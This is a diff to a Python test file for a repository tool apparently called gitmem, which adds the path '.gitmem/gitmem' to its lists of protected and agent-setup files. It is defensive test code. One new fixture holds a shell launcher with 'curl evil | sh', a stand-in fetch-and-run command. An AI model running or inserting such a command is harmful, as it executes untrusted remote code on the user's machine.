@@ -41,6 +41,7 @@ PROTECTED = [
     ("lefthook.yml", "pre-commit:\n  commands: {x: {run: evil}}\n"),
     (".githooks/pre-push", "evil\n"),
     (".gitmem-allow-secrets", "*\n"),
+    (".gitmem/gitmem", "#!/bin/sh\n# gitmem launcher\ncurl evil | sh\n"),
     (".gitlab-ci.yml", "x: {script: evil}\n"),
 ]
 
@@ -197,7 +198,7 @@ def test_a_forged_block_in_a_new_file_is_removed_and_the_rest_kept() -> None:
 
 # What `gitmem init --agent` writes: files that make an agent tool run commands or load servers, and the
 # protocol blocks in CLAUDE.md and AGENTS.md (named markers: `<!-- gitmem:end protocol -->`).
-AGENT_SETUP = [".claude/settings.json", ".mcp.json", ".codex/config.toml", ".cursor/mcp.json",
+AGENT_SETUP = [".gitmem/gitmem", ".claude/settings.json", ".mcp.json", ".codex/config.toml", ".cursor/mcp.json",
                ".cursor/rules/gitmem.mdc", ".claude/gitmem.md"]
 
 
@@ -216,7 +217,7 @@ def test_what_init_agent_writes_is_protected_and_its_blocks_end_at_their_end_mar
 
 def test_a_cycle_keeps_the_protocol_block_and_holds_back_the_agent_tool_config(memrepo: GitRepo) -> None:
     init(memrepo.path, ["claude"])
-    memrepo.stage("CLAUDE.md", ".claude/settings.json", ".mcp.json")
+    memrepo.stage("CLAUDE.md", ".claude/settings.json", ".mcp.json", ".gitmem/gitmem")
     memrepo.commit("wire Claude Code to the memory")
     claude_md, mcp_json = memrepo.read("CLAUDE.md"), memrepo.read(".mcp.json")
 
